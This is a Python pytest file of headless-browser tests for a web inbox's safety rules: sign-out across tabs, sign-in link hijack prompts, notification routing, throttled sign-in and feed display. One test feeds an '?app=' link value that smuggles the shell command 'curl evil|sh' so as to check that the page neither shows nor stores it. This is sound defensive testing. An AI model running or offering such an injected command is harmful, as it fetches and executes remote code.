"""The web inbox's safety properties (docs/inbox.md), end to end in headless Chromium against a
real `herald serve`: signing out really stops desktop notifications in every tab, a sign-in link
cannot silently replace the signed-in user, untrusted `?app=` text is never shown or stored, a
throttled sign-in keeps its link, and the feed's display, focus, target-policy and expiry rules.

Harness and conventions as tests/test_inbox.py (tests/browser.py): screenshots at key moments,
`browser.check()` fails on any console error the test did not expect."""

from __future__ import annotations

import time
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from tests.browser import (
    WAIT,
    Api,
    App,
    Browser,
    Device,
    Herald,
    Inbox,
    expect,
    http_error,
    push_standin_script,
    signed_in,
    wait_for,
)
from tests.standins import WebPushStandIn, make_tls

TOKEN_ENDPOINT = r"/oauth2/v2\.0/token$"

# Counts every PushSubscription.unsubscribe() of the page (after tests/browser.py's stand-in):
# `localStorage["herald-test.unsubscribed"]`, shared by the tabs of the profile.
RECORD_UNSUBSCRIBE = """
(() => {
  if (typeof PushManager === "undefined") return;
  for (const name of ["getSubscription", "subscribe"]) {
    const original = PushManager.prototype[name];
    PushManager.prototype[name] = function (...args) {
      return original.apply(this, args).then((sub) => {
        if (sub) {
          const unsubscribe = sub.unsubscribe;
          sub.unsubscribe = () => {
            const n = Number(localStorage.getItem("herald-test.unsubscribed") || 0);
            localStorage.setItem("herald-test.unsubscribed", String(n + 1));
            return unsubscribe.call(sub);
          };
        }
        return sub;
      });
    };
  }
})();
"""


def in_seconds(seconds: float) -> str:
    at = datetime.now(UTC).replace(microsecond=0) + timedelta(seconds=seconds)
    return at.strftime("%Y-%m-%dT%H:%M:%SZ")


@pytest.fixture(scope="module")
def herald(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Herald]:
    """One server for the tests that need no settings of their own."""
    server = Herald(tmp_path_factory.mktemp("safety"))
    server.start()
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture(scope="module")
def pushing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Herald, WebPushStandIn]]:
    """A server that pushes to the Web Push stand-in (as test_inbox.py's Web Push test)."""
    tls = make_tls(tmp_path_factory.mktemp("tls"))
    with WebPushStandIn(tls) as push_service:
        server = Herald(
            tmp_path_factory.mktemp("safety-push"),
            env={
                "HERALD_PUSH_CA_FILE": str(tls.ca_file),
                "HERALD_PUSH_ALLOW_PRIVATE_ENDPOINTS": "true",
                "HERALD_PUSH_VAPID_SUBJECT": "mailto:inbox-tests@example.com",
                "HERALD_PUSH_TIMEOUT": "2",
            },
        )
        server.start()
        try:
            yield server, push_service
        finally:
            server.stop()


def push_device(browser: Browser, herald: Herald, push: WebPushStandIn, app: App) -> Device:
    """A browser profile whose PushManager subscribes to the stand-in with the app's key."""
    subscriber = push.subscriber(herald.push_key(app))
    script = push_standin_script(subscriber.to_json()) + RECORD_UNSUBSCRIBE
    device = browser.device("laptop", init_script=script)
    device.context.grant_permissions(["notifications"], origin=herald.origin)
    return device


def enable_push(inbox: Inbox, api: Api) -> dict[str, Any]:
    """Click "Enable desktop notifications"; the user's subscription with its push channel."""
    inbox.page.get_by_role("button", name="Enable desktop notifications").click()
    expect(inbox.page.locator("#push-state")).to_have_attribute("data-state", "subscribed")
    [sub] = wait_for(
        lambda: [s for s in api.subscriptions() if s.get("pushChannel")], "the push channel"
    )
    return sub


def stored(inbox: Inbox, key: str) -> str | None:
    return inbox.page.evaluate("key => localStorage.getItem(key)", key)  # type: ignore[no-any-return]


def expect_no_subscriptions(api: Api, *, stay: float = 2.0) -> None:
    """The user has no subscription within the usual wait, and still none `stay` s later (no
    tab registered again)."""
    wait_for(lambda: api.subscriptions() == [], f"{api.user}'s subscriptions to be deleted")
    time.sleep(stay)
    assert api.subscriptions() == []


# -- signing out --------------------------------------------------------------------------------


def test_sign_out_stops_desktop_notifications_in_every_tab(
    pushing: tuple[Herald, WebPushStandIn], browser: Browser, user: str
) -> None:
    """Two tabs with desktop notifications on; sign out in one: both show the signed-out state
    (not "session expired"), the browser's push subscription is unsubscribed, and the user's
    subscription is deleted on the server and stays deleted (no tab registers again)."""
    herald, push = pushing
    api = Api(herald, herald.register(), user)
    try:
        device = push_device(browser, herald, push, api.app)
        one = signed_in(device, herald, api.app, user, tab="tab1")
        enable_push(one, api)
        two = device.open(herald.inbox(f"?app={api.app.client_id}"), tab="tab2")
        two.expect_live()
        expect(two.page.locator("#push-state")).to_have_attribute("data-state", "subscribed")
        assert len(api.subscriptions()) == 1

        one.page.locator("#sign-out").click()
        for inbox in (one, two):
            inbox.expect_state("signed-out")
            expect(inbox.page.locator("main")).to_contain_text("herald signin")
            expect(inbox.alert).not_to_contain_text("expired")
            inbox.shot("signed-out")
        expect_no_subscriptions(api)
        assert stored(one, "herald-test.push-subscribed") is None
        assert int(stored(one, "herald-test.unsubscribed") or 0) >= 1
        for inbox in (one, two):
            inbox.expect_state("signed-out")
    finally:
        api.close()
    browser.check()


def test_sign_out_in_one_tab_shows_signed_out_in_the_others(
    herald: Herald, api: Api, browser: Browser
) -> None:
    laptop = browser.device("laptop")
    one = signed_in(laptop, herald, api.app, api.user, tab="tab1")
    two = laptop.open(herald.inbox(f"?app={api.app.client_id}"), tab="tab2")
    two.expect_live()
    one.page.locator("#sign-out").click()
    for inbox in (one, two):
        inbox.expect_state("signed-out")
        expect(inbox.connection).to_have_text("Signed out")
        expect(inbox.alert).not_to_contain_text("Your session has expired")
    two.shot("signed-out-elsewhere")
    expect_no_subscriptions(api, stay=1.0)
    browser.check()


# -- a sign-in link for another user ------------------------------------------------------------


def test_a_link_for_another_user_asks_before_switching(
    pushing: tuple[Herald, WebPushStandIn], browser: Browser
) -> None:
    """Alice is signed in with desktop notifications. Mallory's sign-in link does not replace
    her session: the page asks. "Stay" changes nothing; "Switch" signs Alice out properly
    (her subscriptions go) and signs Mallory in, without Alice's push channel."""
    herald, push = pushing
    app = herald.register()
    alice_id, mallory_id = f"alice-{uuid.uuid4().hex[:6]}", f"mallory-{uuid.uuid4().hex[:6]}"
    alice, mallory = Api(herald, app, alice_id), Api(herald, app, mallory_id)
    try:
        device = push_device(browser, herald, push, app)
        first = signed_in(device, herald, app, alice_id, tab="alice")
        channel = enable_push(first, alice)["pushChannel"]

        lured = device.open(herald.signin(app, mallory_id), tab="lured")
        panel = lured.page.locator("#switch-user")
        expect(panel).to_be_visible()
        expect(panel).to_contain_text(alice_id)
        expect(panel).to_contain_text(mallory_id)
        assert "signin=" not in lured.page.url
        lured.shot("1-asks")
        lured.expect_live()
        expect(lured.page.locator("#who")).to_contain_text(alice_id)
        [sub] = alice.subscriptions()
        assert sub["pushChannel"]["endpoint"] == channel["endpoint"]
        assert mallory.subscriptions() == []

        panel.get_by_role("button", name=f"Stay signed in as {alice_id}").click()
        expect(panel).to_be_hidden()
        lured.expect_live()
        expect(lured.page.locator("#who")).to_contain_text(alice_id)
        first.expect_live()
        time.sleep(1)
        [sub] = alice.subscriptions()
        assert sub["pushChannel"]["endpoint"] == channel["endpoint"]
        assert mallory.subscriptions() == []
        lured.shot("2-stayed")

        again = device.open(herald.signin(app, mallory_id), tab="switch")
        panel = again.page.locator("#switch-user")
        panel.get_by_role("button", name=f"Switch to {mallory_id}").click()
        again.expect_live()
        expect(again.page.locator("#who")).to_contain_text(mallory_id)
        [sub] = wait_for(lambda: mallory.subscriptions(), "Mallory's subscription")
        expect_no_subscriptions(alice, stay=1.0)
        assert [s.get("pushChannel") for s in mallory.subscriptions()] == [None]
        again.shot("3-switched")
    finally:
        alice.close()
        mallory.close()
    browser.check()


# -- a click on a desktop notification -----------------------------------------------------------


def test_a_click_activates_only_in_the_inbox_of_the_app_with_the_notifications(
    pushing: tuple[Herald, WebPushStandIn], browser: Browser, user: str
) -> None:
    """Desktop notifications are on for app A; the inboxes of A and of another app B are open,
    B's in front. The service worker's click handling (`open(id)` in sw.js) activates the
    notification in A's inbox, and B's inbox is not told."""
    herald, push = pushing
    a_api = Api(herald, herald.register(), user)
    b_app = herald.register()
    try:
        device = push_device(browser, herald, push, a_api.app)
        a = signed_in(device, herald, a_api.app, user, tab="app-a")
        enable_push(a, a_api)
        n = a_api.notify("Your order shipped")
        a.expect_feed([n["id"]])
        b = signed_in(device, herald, b_app, user, tab="app-b")
        b.page.bring_to_front()
        [worker] = [w for w in device.context.service_workers if w.url == herald.inbox("sw.js")]
        worker.evaluate("id => open(id)", n["id"])
        a_api.wait_state(n["id"], userActionState="activated", readState="read")
        expect(a.item(n["id"])).to_have_attribute("data-action-state", "activated")
        b.page.wait_for_timeout(500)
        a.shot("activated")
    finally:
        a_api.close()
    browser.check()


# -- ?app= --------------------------------------------------------------------------------------


def test_an_invalid_app_in_the_link_is_neither_shown_nor_stored(
    herald: Herald, browser: Browser
) -> None:
    guest = browser.device("guest")
    page = guest.open(herald.inbox("?app=x%20--user%20you;%20curl%20evil|sh%20%23"))
    page.expect_state("signed-out")
    main = page.page.locator("main")
    expect(main).to_contain_text("This link names no valid app")
    expect(main).not_to_contain_text("curl")
    expect(main).to_contain_text("herald signin --app <clientId>")
    assert stored(page, "herald.app") is None
    page.shot("invalid-app")
    browser.check()


# -- a throttled sign-in ------------------------------------------------------------------------


def test_a_throttled_sign_in_waits_and_still_signs_in(
    heralds: Callable[..., Herald], browser: Browser, user: str
) -> None:
    """The token endpoint answers 429 (Retry-After) at first: the page waits and exchanges the
    code again, and signs in."""
    herald = heralds(HERALD_TOKEN_RATE="0.5", HERALD_TOKEN_BURST="1")
    app = herald.register()
    link = herald.signin(app, user)
    r = httpx.post(
        f"{herald.origin}/oauth2/v2.0/token", data={"grant_type": "refresh_token"}, timeout=WAIT
    )
    assert r.status_code == 400, r.text  # the bucket's one token, spent
    device = browser.device("laptop")
    device.allow(http_error(429, TOKEN_ENDPOINT))
    inbox = device.open(link)
    inbox.expect_live()
    expect(inbox.page.locator("#who")).to_contain_text(user)
    assert device.tolerated, "the first exchange was not throttled"
    inbox.shot("signed-in")
    browser.check()


# -- the feed -----------------------------------------------------------------------------------


def test_a_replace_that_targets_browsers_shows_the_notification(
    herald: Herald, api: Api, browser: Browser
) -> None:
    """An iOS-only notification is not shown; replaced with one for webPush, it appears live."""
    ios = api.notify("Only on the phone", targetPolicy={"platformTypes": ["iOS"]})
    normal = api.notify("Everywhere")
    a = signed_in(browser.device("laptop"), herald, api.app, api.user)
    a.expect_feed([normal["id"]])
    replaced = api.notify(
        "Now for browsers too",
        appNotificationId=ios["appNotificationId"],
        targetPolicy={"platformTypes": ["iOS", "webPush"]},
    )
    assert replaced["id"] == ios["id"]
    expect(a.item(ios["id"])).to_have_count(1)
    a.expect_shown(ios["id"], "Now for browsers too")
    a.shot("replaced-for-browsers")
    browser.check()


def test_display_has_no_high_badge_and_no_raw_content(
    herald: Herald, api: Api, browser: Browser
) -> None:
    high = api.notify("Visual, High by default")
    low = api.notify("Not urgent", priority="Low")
    raw = api.notify("", payload={"rawContent": "secret-raw-text {json}"})
    a = signed_in(browser.device("laptop"), herald, api.app, api.user)
    expect(a.items).to_have_count(3)
    assert api.state(high["id"])["priority"] == "High"
    expect(a.page.locator("#feed")).not_to_contain_text("High priority")
    expect(a.item(low["id"])).to_contain_text("Low priority")
    a.expect_shown(raw["id"], "Notification")
    expect(a.page.locator("#feed")).not_to_contain_text("secret-raw-text")
    a.shot("display")
    browser.check()


def test_after_delete_focus_does_not_land_on_delete(
    herald: Herald, api: Api, browser: Browser
) -> None:
    """Enter on Delete, then Enter again: the second press does not delete the next one."""
    ids = [api.notify(f"Number {i}")["id"] for i in range(3)]
    newest_first = list(reversed(ids))
    a = signed_in(browser.device("laptop"), herald, api.app, api.user)
    a.expect_feed(newest_first)
    a.button(newest_first[0], "Delete").focus()
    a.page.keyboard.press("Enter")
    a.expect_feed(newest_first[1:])
    focused = a.page.evaluate(
        "() => [document.activeElement.closest('li')?.dataset.id, "
        "document.activeElement.dataset.action ?? null]"
    )
    assert focused[0] == newest_first[1], focused
    assert focused[1] != "delete", focused
    a.page.keyboard.press("Enter")
    a.page.wait_for_timeout(500)
    a.expect_feed(newest_first[1:])
    api.wait_gone(newest_first[0])
    for id in newest_first[1:]:
        api.state(id)
    browser.check()


def test_the_page_removes_an_expired_notification_by_itself(
    heralds: Callable[..., Herald], browser: Browser, user: str
) -> None:
    """The server's sweeper is slow (an hour): only the page's own timer can remove it."""
    herald = heralds(HERALD_SWEEP_INTERVAL="3600")
    api = Api(herald, herald.register(), user)
    try:
        a = signed_in(browser.device("laptop"), herald, api.app, user)
        lasting = api.notify("Invoice available", expirationDateTime=in_seconds(3600))
        brief = api.notify("Flash sale", expirationDateTime=in_seconds(3))
        a.expect_feed([brief["id"], lasting["id"]])
        a.expect_feed([lasting["id"]])
        a.shot("expired")
    finally:
        api.close()
    browser.check()
